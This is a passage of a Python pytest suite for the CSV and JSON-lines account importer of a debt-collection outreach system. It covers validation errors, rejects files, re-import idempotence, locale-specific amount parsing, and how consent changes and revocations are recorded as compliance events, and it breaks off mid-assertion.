from __future__ import annotations

import csv
import json
import threading
from collections.abc import Callable
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine, func, select, text, update

from outreach import store
from outreach.clock import FixedClock
from outreach.compliance.engine import evaluate
from outreach.compliance.frequency import CLOCK_SKEW
from outreach.compliance.rules import load_ruleset
from outreach.compliance_store import load_debtors, situation
from outreach.errors import DataFileError
from outreach.importing.account_rows import ImportDefaults
from outreach.importing.account_store import AccountUpserter
from outreach.importing.accounts import ImportHooks, ImportSummary, import_accounts
from outreach.importing.rejects import RowProblem
from tests.conftest import collector_as_started

HEADER = [
    "reference", "name", "balance", "currency", "due_date", "phone", "email", "timezone",
    "jurisdiction", "locale", "sms_consent", "voice_consent", "email_consent", "cadence",
]  # fmt: skip


def row(ref: str, **overrides: str) -> dict[str, str]:
    values = {
        "reference": ref,
        "name": f"Debtor {ref}",
        "balance": "120.50",
        "currency": "USD",
        "due_date": "2026-10-15",
        "phone": "(617) 555-0101",
        "email": f"{ref.lower()}@example.com",
        "timezone": "",
        "jurisdiction": "US-MA",
        "locale": "en_US",
        "sms_consent": "true",
        "voice_consent": "false",
        "email_consent": "true",
        "cadence": "standard",
    }
    values.update(overrides)
    return values


def write_csv(path: Path, rows: list[dict[str, str]], header: list[str] | None = None) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=header or HEADER, extrasaction="ignore")
        writer.writeheader()
        writer.writerows(rows)
    return path


def run_import(
    engine: Engine,
    path: Path,
    defaults: ImportDefaults,
    clock: FixedClock,
    **options: Any,
) -> ImportSummary:
    file_format = "jsonl" if path.suffix == ".jsonl" else "csv"
    return import_accounts(engine, path, file_format, defaults, clock, **options)


def snapshot(engine: Engine) -> dict[str, list[tuple[Any, ...]]]:
    """Every row of the tables an import writes, for before/after comparisons."""
    tables = (store.accounts, store.contact_points, store.compliance_events)
    with engine.connect() as connection:
        return {
            table.name: [tuple(r) for r in connection.execute(select(table).order_by(table.c.id))]
            for table in tables
        }


def accounts_by_reference(engine: Engine) -> dict[str, Any]:
    with engine.connect() as connection:
        return {r.reference: r for r in connection.execute(select(store.accounts))}


def contacts_of(engine: Engine, reference: str) -> list[Any]:
    with engine.connect() as connection:
        return list(
            connection.execute(
                select(store.contact_points)
                .join(store.accounts, store.accounts.c.id == store.contact_points.c.account_id)
                .where(store.accounts.c.reference == reference)
                .order_by(store.contact_points.c.channel, store.contact_points.c.address)
            )
        )


def test_good_file_lands_every_row(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = write_csv(
        tmp_path / "accounts.csv",
        [
            row("A-1"),
            row("A-2", balance="1,999.99", phone="+1 415 555 0123", jurisdiction="US-CA"),
            row("A-3", phone="", email="", timezone="America/Chicago", locale="es-US"),
        ],
    )
    summary = run_import(engine, path, defaults, clock)
    assert (summary.created, summary.updated, summary.rejected) == (3, 0, 0)
    accounts = accounts_by_reference(engine)
    assert accounts["A-1"].balance_minor == 12050
    assert accounts["A-1"].due_date == date(2026, 10, 15)
    assert accounts["A-1"].status == "active"
    assert accounts["A-1"].next_contact_at == clock.now()
    # Inferred from the phone number, which has exactly one zone.
    assert accounts["A-1"].timezone == "America/New_York"
    assert accounts["A-2"].balance_minor == 199999
    assert accounts["A-2"].timezone == "America/Los_Angeles"
    assert accounts["A-3"].timezone == "America/Chicago"
    assert accounts["A-3"].locale == "es_US"
    points = {(p.channel, p.address): p for p in contacts_of(engine, "A-1")}
    assert set(points) == {
        ("sms", "+16175550101"),
        ("voice", "+16175550101"),
        ("email", "a-1@example.com"),
    }
    assert points[("sms", "+16175550101")].consent is True
    assert points[("sms", "+16175550101")].consent_source == "import test.csv"
    assert points[("voice", "+16175550101")].consent is False
    assert points[("voice", "+16175550101")].consent_at is None
    assert contacts_of(engine, "A-3") == []


def test_bad_rows_are_reported_with_row_column_and_reason_while_good_rows_land(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = write_csv(
        tmp_path / "mixed.csv",
        [
            row("G-1"),
            row("B-1", balance="12.345"),
            row("G-2"),
            row("B-2", phone="555-12", due_date="2026-02-30", email="nobody@"),
            row("B-3", reference=""),
            row("B-4", cadence="nonexistent", timezone="Mars/Olympus"),
            row("G-3"),
        ],
    )
    seen: list[RowProblem] = []
    summary = run_import(engine, path, defaults, clock, hooks=ImportHooks(on_problem=seen.append))
    assert (summary.created, summary.rejected) == (3, 4)
    assert set(accounts_by_reference(engine)) == {"G-1", "G-2", "G-3"}
    problems = {p.row: p.errors for p in seen}
    assert sorted(problems) == [3, 5, 6, 7]  # the header is row 1
    assert problems[3] == ["balance: '12.345' has more than 2 decimal places for USD"]
    assert len(problems[5]) == 3
    assert any(e.startswith("phone: '555-12' is not a valid phone number") for e in problems[5])
    assert any(e.startswith("due_date: '2026-02-30' is not a calendar date") for e in problems[5])
    assert any(e.startswith("email: 'nobody@'") for e in problems[5])
    assert problems[6] == ["reference: is required"]
    assert any("cadence: 'nonexistent' is not a cadence" in e for e in problems[7])
    assert any("timezone: 'Mars/Olympus'" in e for e in problems[7])
    assert str(seen[0]).startswith("row 3: balance:")


def test_rejects_file_keeps_bad_rows_with_reasons_and_can_be_reimported(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = write_csv(tmp_path / "in.csv", [row("G-1"), row("B-1", balance="abc")])
    rejects = tmp_path / "rejects.csv"
    run_import(engine, path, defaults, clock, rejects_path=rejects)
    with rejects.open(encoding="utf-8") as handle:
        rejected = list(csv.DictReader(handle))
    assert len(rejected) == 1
    assert rejected[0]["reference"] == "B-1"
    assert rejected[0]["row"] == "3"
    assert "balance: 'abc' is not an amount" in rejected[0]["errors"]
    # The operator fixes the balance and imports the rejects file as it is.
    rejected[0]["balance"] = "10.00"
    fixed = write_csv(tmp_path / "fixed.csv", rejected, header=[*HEADER, "row", "errors"])
    summary = run_import(engine, fixed, defaults, clock)
    assert (summary.created, summary.rejected, summary.unknown_columns) == (1, 0, [])


def test_reimporting_the_same_file_changes_nothing(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = write_csv(
        tmp_path / "accounts.csv",
        [row(f"R-{i}", phone=f"+1617555{100 + i:04d}") for i in range(25)],
    )
    first = run_import(engine, path, defaults, clock, batch_size=7)
    before = snapshot(engine)
    clock.advance(timedelta(days=1))
    second = run_import(engine, path, defaults, clock, batch_size=7)
    assert (first.created, second.created, second.updated, second.unchanged) == (25, 0, 0, 25)
    assert snapshot(engine) == before


def test_changed_balance_or_due_date_updates_the_account(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    run_import(engine, write_csv(tmp_path / "a.csv", [row("A-1"), row("A-2")]), defaults, clock)
    with engine.begin() as connection:  # the planner has moved A-1 on since
        connection.execute(update(store.accounts).values(next_contact_at=None))
    clock.advance(timedelta(hours=5))
    changed = write_csv(
        tmp_path / "b.csv", [row("A-1", balance="80.00", due_date="2026-11-30"), row("A-2")]
    )
    summary = run_import(engine, changed, defaults, clock)
    assert (summary.created, summary.updated, summary.unchanged) == (0, 1, 1)
    accounts = accounts_by_reference(engine)
    assert accounts["A-1"].balance_minor == 8000
    assert accounts["A-1"].due_date == date(2026, 11, 30)
    assert accounts["A-1"].updated_at == clock.now()
    # New figures: the planner reconsiders the account at its next tick.
    assert accounts["A-1"].next_contact_at == clock.now()
    assert accounts["A-2"].next_contact_at is None


@pytest.mark.parametrize(
    ("column", "value"),
    [("cadence", "pre-due"), ("timezone", "America/Chicago"), ("jurisdiction", "US-NY"),
     ("locale", "es_US"), ("currency", "CAD")],
)  # fmt: skip
def test_a_change_to_what_the_cadence_reads_has_the_account_reconsidered(
    engine: Engine,
    tmp_path: Path,
    defaults: ImportDefaults,
    clock: FixedClock,
    column: str,
    value: str,
) -> None:
    """Another cadence, zone, state, language or currency may make a step due, or due at
    another time, even for an account whose cadence had finished."""
    run_import(engine, write_csv(tmp_path / "a.csv", [row("A-1"), row("A-2")]), defaults, clock)
    with engine.begin() as connection:  # both finished their cadence since
        connection.execute(update(store.accounts).values(next_contact_at=None))
    clock.advance(timedelta(hours=5))
    changed = write_csv(tmp_path / "b.csv", [row("A-1", **{column: value}), row("A-2")])
    summary = run_import(engine, changed, defaults, clock)
    assert (summary.updated, summary.unchanged) == (1, 1)
    accounts = accounts_by_reference(engine)
    assert getattr(accounts["A-1"], column) == value
    assert accounts["A-1"].next_contact_at == clock.now()
    assert accounts["A-2"].next_contact_at is None


@pytest.mark.parametrize(
    ("column", "value"),
    [("cadence", "pre-due"), ("timezone", "America/Chicago"), ("jurisdiction", "US-NY"),
     ("locale", "es_US"), ("currency", "CAD"), ("balance", "80.00"), ("due_date", "2026-11-30")],
)  # fmt: skip
def test_a_change_leaves_an_account_handed_off_to_the_agents_with_them(
    engine: Engine,
    tmp_path: Path,
    defaults: ImportDefaults,
    clock: FixedClock,
    column: str,
    value: str,
) -> None:
    """Handed off, the account is the agents': its new values are stored, but no cadence
    looks at it again (a step of the cadence it is moved to would reach the debtor)."""
    refs = ("PENDING", "SEEN", "PAID")
    run_import(engine, write_csv(tmp_path / "a.csv", [row(r) for r in refs]), defaults, clock)
    with engine.begin() as connection:
        for ref, handoff in zip(refs, ("pending", "seen", "seen"), strict=True):
            connection.execute(
                update(store.accounts)
                .where(store.accounts.c.reference == ref)
                .values(handoff=handoff, next_contact_at=None)
            )
    clock.advance(timedelta(hours=5))
    changed = [row("PENDING", **{column: value}), row("SEEN", **{column: value})]
    run_import(
        engine, write_csv(tmp_path / "b.csv", [*changed, row("PAID", balance="0")]), defaults, clock
    )
    accounts = accounts_by_reference(engine)
    for ref in ("PENDING", "SEEN"):
        assert accounts[ref].updated_at == clock.now()
        assert accounts[ref].next_contact_at is None
    # Paid off, it is closed all the same.
    assert (accounts["PAID"].status, accounts["PAID"].closed_at) == ("paid", clock.now())


def test_zero_balance_closes_the_account_and_import_never_reopens_it(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    run_import(
        engine,
        write_csv(tmp_path / "a.csv", [row("A-1"), row("A-2", balance="0")]),
        defaults,
        clock,
    )
    accounts = accounts_by_reference(engine)
    assert (accounts["A-2"].status, accounts["A-2"].next_contact_at) == ("paid", None)
    summary = run_import(
        engine, write_csv(tmp_path / "b.csv", [row("A-1", balance="0"), row("A-2", balance="50")]),
        defaults, clock,
    )  # fmt: skip
    accounts = accounts_by_reference(engine)
    assert accounts["A-1"].status == "paid"
    assert accounts["A-1"].closed_at == clock.now()
    assert accounts["A-2"].status == "paid"
    assert accounts["A-2"].balance_minor == 5000
    assert summary.kept_closed == 1


def test_reference_repeated_in_the_file_is_rejected_across_batches(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    rows = [row("D-1"), row("D-2"), row("D-1", name="Second"), row("D-3"), row("D-2", balance="1")]
    seen: list[RowProblem] = []
    summary = run_import(
        engine, write_csv(tmp_path / "dups.csv", rows), defaults, clock, batch_size=2,
        hooks=ImportHooks(on_problem=seen.append),
    )  # fmt: skip
    assert (summary.created, summary.rejected) == (3, 2)
    assert [str(p) for p in seen] == [
        "row 4: reference 'D-1' already appears at row 2",
        "row 6: reference 'D-2' already appears at row 3",
    ]
    assert accounts_by_reference(engine)["D-1"].name == "Debtor D-1"
    # The same file again: the repeats are still repeats, the rest unchanged.
    again = run_import(
        engine, write_csv(tmp_path / "dups.csv", rows), defaults, clock, batch_size=2
    )
    assert (again.unchanged, again.rejected) == (3, 2)


def test_dry_run_validates_and_counts_but_writes_nothing(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    run_import(engine, write_csv(tmp_path / "a.csv", [row("A-1")]), defaults, clock)
    before = snapshot(engine)
    path = write_csv(
        tmp_path / "b.csv", [row("A-1", balance="1.00"), row("A-2"), row("B", balance="x")]
    )
    summary = run_import(engine, path, defaults, clock, dry_run=True)
    assert (summary.created, summary.updated, summary.rejected) == (1, 1, 1)
    assert snapshot(engine) == before


def test_consent_changes_are_recorded_as_compliance_events(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    run_import(engine, write_csv(tmp_path / "a.csv", [row("A-1")]), defaults, clock)
    clock.advance(timedelta(days=2))
    revoked = write_csv(tmp_path / "b.csv", [row("A-1", sms_consent="false", voice_consent="yes")])
    summary = run_import(engine, revoked, defaults, clock)
    assert summary.updated == 1
    points = {p.channel: p for p in contacts_of(engine, "A-1")}
    assert points["sms"].consent is False
    assert points["sms"].consent_at == clock.now()
    assert points["voice"].consent is True
    with engine.connect() as connection:
        events = connection.execute(
            select(store.compliance_events.c.kind, store.compliance_events.c.channel).order_by(
                store.compliance_events.c.kind
            )
        ).all()
    assert [tuple(e) for e in events] == [("consent", "voice"), ("consent_revoked", "sms")]


def test_a_new_phone_supersedes_the_old_and_marked_numbers_stay_marked(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    run_import(engine, write_csv(tmp_path / "a.csv", [row("A-1")]), defaults, clock)
    with engine.begin() as connection:  # a debtor said "wrong number" on the voice line
        connection.execute(
            update(store.contact_points)
            .where(store.contact_points.c.channel == "voice")
            .values(status="wrong_number")
        )
    run_import(engine, write_csv(tmp_path / "b.csv", [row("A-1")]), defaults, clock)
    statuses = {(p.channel, p.address): p.status for p in contacts_of(engine, "A-1")}
    assert statuses[("voice", "+16175550101")] == "wrong_number"
    run_import(
        engine, write_csv(tmp_path / "c.csv", [row("A-1", phone="+16175550102")]), defaults, clock
    )
    statuses = {(p.channel, p.address): p.status for p in contacts_of(engine, "A-1")}
    assert statuses[("sms", "+16175550101")] == "superseded"
    assert statuses[("voice", "+16175550101")] == "wrong_number"
    assert statuses[("sms", "+16175550102")] == "active"
    # Back to the first number: the sms point comes back, the wrong number does not.
    run_import(engine, write_csv(tmp_path / "d.csv", [row("A-1")]), defaults, clock)
    statuses = {(p.channel, p.address): p.status for p in contacts_of(engine, "A-1")}
    assert statuses[("sms", "+16175550101")] == "active"
    assert statuses[("voice", "+16175550101")] == "wrong_number"


def test_second_phone_has_no_consent_unless_given_its_own(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    header = [*HEADER, "phone2", "phone2_type", "phone2_sms_consent"]
    rows = [
        row("A-1", phone2="(212) 555-0111", phone2_type="work"),
        row("A-2", phone="+16175550120", phone2="(212) 555-0112", phone2_sms_consent="true"),
    ]
    run_import(engine, write_csv(tmp_path / "a.csv", rows, header), defaults, clock)
    first = {(p.channel, p.address): p for p in contacts_of(engine, "A-1")}
    second_phone = first[("sms", "+12125550111")]
    assert (second_phone.consent, second_phone.kind, second_phone.priority) == (False, "work", 1)
    other = {(p.channel, p.address): p for p in contacts_of(engine, "A-2")}
    assert other[("sms", "+12125550112")].consent is True
    assert other[("voice", "+12125550112")].consent is False


def test_a_revocation_in_a_file_without_the_address_column_revokes_the_points_on_file(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    header = [*HEADER, "phone2", "phone2_sms_consent"]
    first = row("A-1", voice_consent="true", phone2="(212) 555-0111", phone2_sms_consent="true")
    run_import(engine, write_csv(tmp_path / "a.csv", [first, row("A-2")], header), defaults, clock)
    clock.advance(timedelta(days=2))
    path = tmp_path / "b.csv"
    path.write_text(
        "reference,name,balance,due_date,sms_consent,phone2_sms_consent,email_consent\n"
        "A-1,Debtor A-1,120.50,2026-10-15,false,no,\n"
        "A-2,Debtor A-2,120.50,2026-10-15,,,0\n",
        encoding="utf-8",
    )
    summary = run_import(engine, path, defaults, clock)
    assert (summary.updated, summary.rejected, summary.unknown_columns) == (2, 0, [])
    consents = {
        (p.channel, p.address): (p.consent, p.consent_at) for p in contacts_of(engine, "A-1")
    }
    assert consents == {
        ("sms", "+16175550101"): (False, clock.now()),
        ("voice", "+16175550101"): (True, defaults.consent_at),  # voice_consent not in the file
        ("sms", "+12125550111"): (False, clock.now()),
        ("voice", "+12125550111"): (False, None),
        ("email", "a-1@example.com"): (False, clock.now()),  # empty: no consent recorded
    }
    assert {p.channel: p.consent for p in contacts_of(engine, "A-2")} == {
        "sms": False, "voice": False, "email": False,
    }  # fmt: skip
    with engine.connect() as connection:
        events = connection.execute(
            select(
                store.compliance_events.c.kind, store.compliance_events.c.channel,
                store.compliance_events.c.address, store.compliance_events.c.occurred_at,
                store.compliance_events.c.note,
            )
        ).all()  # fmt: skip
    assert sorted(tuple(e) for e in events) == [
        ("consent_revoked", "email", "a-1@example.com", clock.now(), "import row 2"),
        ("consent_revoked", "email", "a-2@example.com", clock.now(), "import row 3"),
        ("consent_revoked", "sms", "+12125550111", clock.now(), "import row 2"),
        ("consent_revoked", "sms", "+16175550101", clock.now(), "import row 2"),
        ("consent_revoked", "sms", "+16175550101", clock.now(), "import row 3"),
    ]
    # Revoked already, the same file again changes nothing.
    again = run_import(engine, path, defaults, clock)
    assert (again.updated, again.unchanged) == (0, 2)


def test_a_consent_given_without_its_address_column_changes_no_consent(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    """Consent is for the number or address the debtor gave: a row that names none gives
    none (and takes none away), while the rest of the row lands as usual."""
    run_import(engine, write_csv(tmp_path / "a.csv", [row("A-1", sms_consent="false"),
                                                     row("A-2")]), defaults, clock)  # fmt: skip
    consents = {r: {(p.channel, p.address): p.consent for p in contacts_of(engine, r)}
                for r in ("A-1", "A-2")}  # fmt: skip
    path = tmp_path / "b.csv"
    path.write_text(
        "reference,name,balance,due_date,sms_consent,email_consent\n"
        "A-1,Debtor A-1,99.00,2026-10-15,true,true\n"
        "A-2,Debtor A-2,99.00,2026-10-15,yes,1\n",
        encoding="utf-8",
    )
    summary = run_import(engine, path, defaults, clock)
    assert (summary.updated, summary.rejected) == (2, 0)
    assert {r: {(p.channel, p.address): p.consent for p in contacts_of(engine, r)}
            for r in ("A-1", "A-2")} == consents  # fmt: skip
    assert accounts_by_reference(engine)["A-1"].balance_minor == 9900


def test_a_revocation_beside_an_emptied_address_cell_is_kept(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    """A number gone from the source system (its cell empty) with its consent withdrawn
    is superseded and loses its consent: a later file naming it again, without consent
    columns, does not bring its old consent back."""
    run_import(engine, write_csv(tmp_path / "a.csv", [row("A-1")]), defaults, clock)
    path = tmp_path / "b.csv"
    path.write_text(
        "reference,name,balance,due_date,phone,sms_consent\n"
        "A-1,Debtor A-1,120.50,2026-10-15,,false\n",
        encoding="utf-8",
    )
    run_import(engine, path, defaults, clock)
    assert {p.channel: (p.status, p.consent) for p in contacts_of(engine, "A-1")
            if p.channel == "sms"} == {"sms": ("superseded", False)}  # fmt: skip
    again = tmp_path / "c.csv"
    again.write_text(
        "reference,name,balance,due_date,phone\nA-1,Debtor A-1,120.50,2026-10-15,617-555-0101\n",
        encoding="utf-8",
    )
    run_import(engine, again, defaults, clock)
    assert {p.channel: (p.status, p.consent) for p in contacts_of(engine, "A-1")
            if p.channel == "sms"} == {"sms": ("active", False)}  # fmt: skip


def test_consent_cells_are_checked_whatever_the_address_columns(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = tmp_path / "a.csv"
    path.write_text(
        "reference,name,balance,due_date,phone,voice_consent,phone2_voice_consent\n"
        "A-1,Ann,10.00,2026-10-15,,maybe,\n"
        "A-2,Bob,10.00,2026-10-15,,,si\n",
        encoding="utf-8",
    )
    summary, seen = _seen(engine, path, defaults, clock)
    assert (summary.created, summary.rejected) == (0, 2)
    assert [str(problem) for problem in seen] == [
        "row 2: voice_consent: 'maybe' is not true or false",
        "row 3: phone2_voice_consent: 'si' is not true or false",
    ]


def test_json_lines_with_exact_amounts(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = tmp_path / "accounts.jsonl"
    lines = [
        json.dumps({**row("J-1"), "balance": 19.99, "sms_consent": True}),
        "{not json",
        json.dumps({**row("J-2"), "balance": "5", "currency": "JPY", "extra_field": 1}),
        json.dumps(["not", "an", "object"]),
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    seen: list[RowProblem] = []
    summary = run_import(engine, path, defaults, clock, hooks=ImportHooks(on_problem=seen.append))
    assert (summary.created, summary.rejected) == (2, 2)
    assert [p.row for p in seen] == [2, 4]
    accounts = accounts_by_reference(engine)
    assert accounts["J-1"].balance_minor == 1999
    assert (accounts["J-2"].balance_minor, accounts["J-2"].currency) == (5, "JPY")
    assert summary.unknown_columns == ["extra_field"]


def test_import_run_is_recorded(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = write_csv(tmp_path / "a.csv", [row("A-1"), row("B", balance="")])
    summary = run_import(engine, path, defaults, clock)
    with engine.connect() as connection:
        run = connection.execute(select(store.import_runs)).one()
    assert run.id == summary.run_id
    assert (run.rows_read, run.created, run.rejected, run.dry_run) == (2, 1, 1, False)
    assert run.finished_at == clock.now()


def test_an_import_stopped_half_way_is_recorded_with_what_it_landed(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    """Ctrl-C after the first batch: its accounts stay, and the run says so, unfinished."""
    rows = [row(f"A-{i}") for i in range(5)] + [row("B", balance="")]
    path = write_csv(tmp_path / "a.csv", rows + [row(f"C-{i}") for i in range(5)])

    def interrupt(done: int, total: int) -> None:
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        run_import(engine, path, defaults, clock, batch_size=5,
                   hooks=ImportHooks(on_progress=interrupt))  # fmt: skip
    with engine.connect() as connection:
        run = connection.execute(select(store.import_runs)).one()
    assert (run.rows_read, run.created, run.rejected, run.finished_at) == (5, 5, 0, None)
    assert sorted(accounts_by_reference(engine)) == [f"A-{i}" for i in range(5)]


@pytest.mark.parametrize("bad_share", [0.05])
def test_generated_file_with_bad_rows_lands_every_good_row(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock, bad_share: float
) -> None:
    """The 100,000-row acceptance check, scaled down; bench/ runs it at full size."""
    from bench.accounts_file import write_accounts_file

    path = tmp_path / "generated.csv"
    expected = write_accounts_file(path, rows=2000, bad_share=bad_share, seed=3)
    rejects = tmp_path / "rejects.csv"
    summary = run_import(engine, path, defaults, clock, rejects_path=rejects, batch_size=500)
    assert summary.created == expected.good
    assert summary.rejected == expected.bad
    with rejects.open(encoding="utf-8") as handle:
        rejected_rows = sorted(int(r["row"]) for r in csv.DictReader(handle))
    assert rejected_rows == expected.bad_rows
    with engine.connect() as connection:
        assert (
            connection.execute(select(func.count()).select_from(store.accounts)).scalar()
            == expected.good
        )
    again = run_import(engine, path, defaults, clock, batch_size=500)
    assert (again.created, again.updated, again.unchanged) == (0, 0, expected.good)


def test_a_file_without_some_columns_leaves_their_values_alone(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    full = row("A-1", timezone="America/Chicago", locale="es_US", cadence="pre-due")
    run_import(engine, write_csv(tmp_path / "full.csv", [full]), defaults, clock)
    before = contacts_of(engine, "A-1")
    balances_only = write_csv(
        tmp_path / "balances.csv",
        [{"reference": "A-1", "name": "Debtor A-1", "balance": "99.00", "due_date": "2026-10-15"}],
        header=["reference", "name", "balance", "due_date"],
    )
    summary = run_import(engine, balances_only, defaults, clock)
    assert summary.updated == 1
    account = accounts_by_reference(engine)["A-1"]
    assert account.balance_minor == 9900
    assert (account.timezone, account.locale, account.cadence, account.jurisdiction) == (
        "America/Chicago", "es_US", "pre-due", "US-MA",
    )  # fmt: skip
    assert contacts_of(engine, "A-1") == before
    # A file with phones but no consent columns changes no consent either.
    header = ["reference", "name", "balance", "due_date", "phone"]
    phones_only = write_csv(tmp_path / "phones.csv", [row("A-1", balance="99.00")], header=header)
    run_import(engine, phones_only, defaults, clock)
    points = {p.channel: p for p in contacts_of(engine, "A-1")}
    assert points["sms"].consent is True
    assert points["email"].status == "active"
    with engine.connect() as connection:
        assert (
            connection.execute(select(func.count()).select_from(store.compliance_events)).scalar()
            == 0
        )


def test_reimporting_after_a_payment_keeps_the_payment(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    from outreach.payments import record_payment

    path = write_csv(tmp_path / "a.csv", [row("A-1", balance="100.00")])
    run_import(engine, path, defaults, clock)
    record_payment(engine, clock, "A-1", "40.00")
    again = run_import(engine, path, defaults, clock)
    assert (again.updated, again.unchanged) == (0, 1)
    assert accounts_by_reference(engine)["A-1"].balance_minor == 6000
    # A new figure from the source system is the new truth.
    changed = run_import(
        engine, write_csv(tmp_path / "b.csv", [row("A-1", balance="70.00")]), defaults, clock
    )
    assert changed.updated == 1
    assert accounts_by_reference(engine)["A-1"].balance_minor == 7000


def test_semicolon_files_refuse_ambiguous_comma_amounts(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = tmp_path / "eu.csv"
    path.write_text(
        "reference;name;balance;due_date\nE-1;Eva;12,500;2026-10-31\nE-2;Eli;12.50;2026-10-31\n",
        encoding="utf-8",
    )
    seen: list[RowProblem] = []
    summary = run_import(engine, path, defaults, clock, hooks=ImportHooks(on_problem=seen.append))
    assert (summary.created, summary.rejected) == (1, 1)
    assert "ambiguous" in str(seen[0])
    assert accounts_by_reference(engine)["E-2"].balance_minor == 1250


def test_semicolon_files_refuse_a_dot_that_may_group_thousands(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    """German Excel saves fifteen hundred euros as 1.500, between ';': read as a decimal
    point it is 1.50. So is a balance of 12.000 yen in any file."""
    path = tmp_path / "de.csv"
    path.write_text(
        "reference;name;balance;currency;due_date\r\n"
        "D-1;Müller;1.500;EUR;2026-10-31\r\n"
        "D-2;Weber;12.50;EUR;2026-10-31\r\n"
        "D-3;Sato;12.000;JPY;2026-10-31\r\n",
        encoding="utf-8-sig",
    )
    seen: list[RowProblem] = []
    summary = run_import(engine, path, defaults, clock, hooks=ImportHooks(on_problem=seen.append))
    assert (summary.created, summary.rejected) == (1, 2)
    assert [str(problem) for problem in seen] == [
        "row 2: balance: '1.500' is ambiguous in a ';'-separated file (a dot may group "
        "thousands there): write 1500 or 1.5",
        "row 4: balance: '12.000' is ambiguous in a ';'-separated file (a dot may group "
        "thousands there): write 12000 or 12",
    ]
    assert set(accounts_by_reference(engine)) == {"D-2"}
    yen = write_csv(tmp_path / "yen.csv", [row("D-3", balance="12.000", currency="JPY")])
    seen.clear()
    run_import(engine, yen, defaults, clock, hooks=ImportHooks(on_problem=seen.append))
    assert "'12.000' is ambiguous for JPY, which has no decimals" in str(seen[0])
    assert set(accounts_by_reference(engine)) == {"D-2"}


def test_semicolon_files_read_three_decimals_of_a_dinar_and_a_leading_zero(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    """12.345 is how a Kuwaiti dinar amount is written (three decimals), with or without a
    currency column; and no thousands group starts with a lone 0, so 0.500 is half a euro."""
    path = tmp_path / "mixed.csv"
    path.write_text(
        "reference;name;balance;currency;due_date\r\n"
        "K-1;Al-Sabah;12.345;KWD;2026-10-31\r\n"
        "E-1;Weber;0.500;EUR;2026-10-31\r\n",
        encoding="utf-8",
    )
    summary = run_import(engine, path, defaults, clock)
    assert (summary.created, summary.rejected) == (2, 0)
    balances = {"K-1": 12345, "E-1": 50}
    got = accounts_by_reference(engine)
    assert {ref: got[ref].balance_minor for ref in balances} == balances
    # Without a currency column the balance is read in the account's own currency.
    again = tmp_path / "balances.csv"
    again.write_text(
        "reference;name;balance;due_date\r\nK-1;Al-Sabah;7.250;2026-10-31\r\n", encoding="utf-8"
    )
    summary = run_import(engine, again, defaults, clock)
    assert (summary.updated, summary.rejected) == (1, 0)
    assert accounts_by_reference(engine)["K-1"].balance_minor == 7250


def test_a_quote_left_open_names_the_lines_it_swallowed(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = tmp_path / "quote.csv"
    lines = ["reference,name,balance,due_date", 'Q-1,"Bad quote,5.00,2026-10-31']
    lines += [f"G-{i},Good,5.00,2026-10-31" for i in range(3)]
    # The next quote closes the cell; the rows after it are read as usual.
    lines += ['G-3,Good,5.00,"2026-10-31"', "G-4,Good,5.00,2026-10-31"]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    seen: list[RowProblem] = []
    run_import(engine, path, defaults, clock, hooks=ImportHooks(on_problem=seen.append))
    assert len(seen) == 1
    assert "runs from line 2 to line 6 (a quote left open?)" in str(seen[0])
    assert set(accounts_by_reference(engine)) == {"G-4"}


def test_a_quote_left_open_in_an_ignored_last_column_loses_no_row_unnoticed(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = tmp_path / "quote.csv"
    path.write_text(
        "reference,name,balance,due_date,notes\n"
        "A0,Al,5.00,2026-01-01,ok\n"
        'A1,Ann,10.00,2026-01-01,"left open\n'
        "A2,Bob,20.00,2026-01-01,ok\n"
        "A3,Cid,30.00,2026-01-01,ok\n",
        encoding="utf-8",
    )
    rejects = tmp_path / "rejects.csv"
    seen: list[RowProblem] = []
    summary = run_import(
        engine, path, defaults, clock, rejects_path=rejects,
        hooks=ImportHooks(on_problem=seen.append),
    )  # fmt: skip
    assert (summary.rows_read, summary.created, summary.rejected) == (2, 1, 1)
    assert set(accounts_by_reference(engine)) == {"A0"}
    assert str(seen[0]) == (
